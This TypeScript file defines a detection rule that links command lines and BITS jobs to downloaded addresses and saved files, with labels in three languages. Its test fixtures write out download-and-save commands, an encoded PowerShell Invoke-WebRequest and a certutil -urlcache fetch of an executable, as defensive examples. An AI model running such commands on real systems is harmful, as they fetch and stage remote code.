import { bareName } from '../accounts.ts'
import { expandUser } from '../command-line.ts'
import { currentDirectory } from '../current-directory.ts'
import { orderedDownloads } from '../downloads.ts'
import { fileOn, proofOf, urlEntity } from '../drafts.ts'
import { decodedCommand } from '../../normalise/encoded-command.ts'
import { exampleEvent } from '../example.ts'
import type { RelationDraft, Rule } from '../rule.ts'
import type { CorrelationView, ViewEvent } from '../view.ts'

/** The command orders the download; the answer of the server is not in the record. */
const ORDERED = 0.85
/** The address stands in the same text as a word that fetches, but not beside it. */
const NAMED = 0.65
/** The transfer service reports the job itself. */
const REPORTED = 0.95

const rule: Rule = {
  id: 'process.download',
  order: 23,
  scope: 'endpoint',
  relations: ['connected-to', 'downloaded-to'],
  attack: ['T1105', 'T1197', 'T1218', 'T1059.001'],
  texts: {
    en: {
      title: 'Downloads ordered by commands',
      description:
        'A command line, also an encoded one, tells a program to fetch an address: PowerShell, curl, certutil, bitsadmin, mshta, msiexec and others. Where the command names the place of the file, the address is joined to the file. Jobs of the background transfer service count too.',
      needs: 'Process start records with command lines; the log of the background transfer service (BITS).',
      falsePositives: 'The download may have failed. Software deployment uses the same commands.',
      'reason.command': 'The command line of {program} fetches this address.',
      'reason.encoded': 'The encoded command of {program} fetches this address.',
      'reason.transfer': 'The background transfer service was given this address.',
      'reason.saved': '{program} was told to save the download as this file.',
    },
    'zh-TW': {
      title: '命令下達的下載',
      description:
        '命令列（包含經編碼者）指示程式取得某個位址：PowerShell、curl、certutil、bitsadmin、mshta、msiexec 等。命令若載明存檔位置，則將位址與檔案相連。背景傳輸服務的工作也包含在內。',
      needs: '含命令列的處理程序啟動紀錄；背景傳輸服務（BITS）記錄。',
      falsePositives: '下載可能失敗。軟體派送也使用相同的命令。',
      'reason.command': '{program} 的命令列會取得此位址。',
      'reason.encoded': '{program} 的編碼命令會取得此位址。',
      'reason.transfer': '背景傳輸服務收到了此位址。',
      'reason.saved': '{program} 受命將下載內容存為此檔案。',
    },
    ja: {
      title: 'コマンドによるダウンロード',
      description:
        'コマンドライン（符号化されたものを含む）がアドレスからの取得をプログラムに命じています。PowerShell、curl、certutil、bitsadmin、mshta、msiexec などが対象です。保存先が示されていれば、アドレスとファイルを結び付けます。バックグラウンド転送サービスのジョブも含みます。',
      needs: 'コマンドラインを含むプロセス起動の記録、バックグラウンド転送サービス（BITS）のログ。',
      falsePositives: 'ダウンロードに失敗している場合があります。ソフトウェア配布も同じコマンドを使います。',
      'reason.command': '{program} のコマンドラインがこのアドレスから取得します。',
      'reason.encoded': '{program} の符号化されたコマンドがこのアドレスから取得します。',
      'reason.transfer': 'バックグラウンド転送サービスにこのアドレスが渡されました。',
      'reason.saved': '{program} は、ダウンロードした内容をこのファイルに保存するよう命じられました。',
    },
  },
  matches: [
    {
      title: 'an encoded command that saves a program, certutil, and a transfer job',
      items: [
        exampleEvent('process-start', 0, {
          processPath: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
          pid: 5,
          commandLine: `powershell -nop -enc ${Buffer.from('Invoke-WebRequest -Uri https://cdn.example.net/a -OutFile C:\\ProgramData\\a.exe', 'utf16le').toString('base64')}`,
        }),
        exampleEvent('process-start', 3, {
          processPath: 'C:\\Windows\\System32\\certutil.exe',
          pid: 6,
          commandLine: 'certutil -urlcache -split -f http://203.0.113.9/b.txt C:\\t\\b.exe',
        }),
        exampleEvent('bits-transfer', 4, { url: 'https://cdn.example.net/c.zip', action: 'started' }),
      ],
      finds: [
        'connected-to: powershell.exe -> https://cdn.example.net/a',
        'downloaded-to: https://cdn.example.net/a -> a.exe',
        'downloaded-to: http://203.0.113.9/b.txt -> b.exe',
        'connected-to: WS-01 -> https://cdn.example.net/c.zip',
      ],
    },
  ],
  ignores: [
    {
      title: 'a browser with an address, and text that only mentions one',
      items: [
        exampleEvent('process-start', 0, {
          processPath: 'C:\\x\\msedge.exe',
          pid: 5,
          commandLine: 'msedge.exe --single-argument https://news.example.org/',
        }),
        exampleEvent('process-start', 1, {
          processPath: 'C:\\Windows\\System32\\cmd.exe',
          pid: 6,
          commandLine: 'cmd /c echo see https://help.example.org',
        }),
        exampleEvent('bits-transfer', 2, { url: 'https://cdn.example.net/c.zip', action: 'failed' }),
      ],
      finds: [],
    },
  ],

  *run(view) {
    const fields = [
      'processPath',
      'commandLine',
      'pid',
      'processGuid',
      'account',
      'detail',
      'url',
      'action',
    ] as const
    for (const event of view.events(['process-start', 'bits-transfer'], fields)) {
      if (event.endpointId === null) continue
      yield* event.kind === 'bits-transfer'
        ? transfer(view, event, event.endpointId)
        : command(view, event, event.endpointId)
    }
  },
}
export default rule

function* transfer(view: CorrelationView, event: ViewEvent, endpointId: number): Generator<RelationDraft> {
  const to =
    event.fields.url === undefined || event.fields.action === 'failed'
      ? undefined
      : urlEntity(event.fields.url)
  if (!to) return
  const from = view.processes.actorOf(event)?.draft ?? endpointId
  yield {
    kind: 'connected-to',
    from,
    to,
    at: event.at,
    confidence: REPORTED,
    reason: 'transfer',
    proof: proofOf(event),
  }
}

function* command(view: CorrelationView, event: ViewEvent, endpointId: number): Generator<RelationDraft> {
  const { commandLine, detail, processPath, account } = event.fields
  if (commandLine === undefined) return
  const decoded = decodedCommand(commandLine)
  const directory = currentDirectory(detail)
  const text = expandUser(decoded ?? commandLine, [directory, processPath], bareName(account))
  for (const { url, path, isSameStatement } of orderedDownloads(text, directory)) {
    const page = urlEntity(url)
    const process = page && view.processes.actorOf(event)
    if (!process) continue
    const base = {
      at: event.at,
      confidence: isSameStatement ? ORDERED : NAMED,
      params: { program: process.draft.name },
      proof: proofOf(event),
    }
    yield {
      ...base,
      kind: 'connected-to',
      from: process.draft,
      to: page,
      reason: decoded === undefined ? 'command' : 'encoded',
    }
    if (path !== undefined)
      yield {
        ...base,
        kind: 'downloaded-to',
        from: page,
        to: fileOn(view.entity(endpointId), path),
        reason: 'saved',
      }
  }
}
